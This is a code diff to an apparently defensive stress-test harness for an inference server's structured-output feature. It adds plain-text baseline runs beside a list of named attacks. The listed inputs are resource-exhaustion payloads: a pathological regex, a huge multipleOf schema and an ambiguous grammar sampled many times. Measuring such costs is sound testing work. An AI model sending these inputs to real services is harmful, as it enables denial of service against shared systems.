@@ -87,12 +87,12 @@ def patterns(letters: Callable[[int], tuple[str, str]]) -> dict[str, Any]:
     return schema({"type": "string", "allOf": every})
 
 
-def grammar(text: str, n: int) -> Run:
-    """n sequences that follow a grammar."""
+def grammar(text: str | None, n: int) -> Run:
+    """n sequences that follow a grammar, or none: what so many sequences cost by themselves."""
+    form = {} if text is None else {"structured_outputs": {"grammar": text}}
 
     def run(ground: Field) -> list[Answer]:
-        body = completion(n=n, max_tokens=ground.tokens, temperature=1.0, seed=5, ignore_eos=True,
-                          structured_outputs={"grammar": text})  # fmt: skip
+        body = completion(n=n, max_tokens=ground.tokens, temperature=1.0, seed=5, ignore_eos=True, **form)
         return [ground.door.ask(f"n={n}", "/v1/completions", body)]
 
     return run
@@ -268,7 +268,9 @@ ATTACKS: tuple[Attack, ...] = (
     Attack(1, "regex a? x 20,000 + a x 20,000",
            forms([completion(structured_outputs={"regex": "a?" * 20000 + "a" * 20000})])),
     Attack(1, "multipleOf 524287", forms([schema({"type": "integer", "multipleOf": 524287})])),
+    Attack(2, "no attack: plain text, n=15", grammar(None, 15)),
     Attack(2, "ambiguous grammar of 39 bytes, n=15", grammar(AMBIGUOUS, 15)),
+    Attack(2, "no attack: plain text, n=60", grammar(None, 60)),
     Attack(2, "ambiguous grammar of 39 bytes, n=60", grammar(AMBIGUOUS, 60)),
     Attack(2, "innocent text grammar, n=4", grammar(INNOCENT, 4)),
     *(Attack(3, name, sent(name)) for name in BODIES),
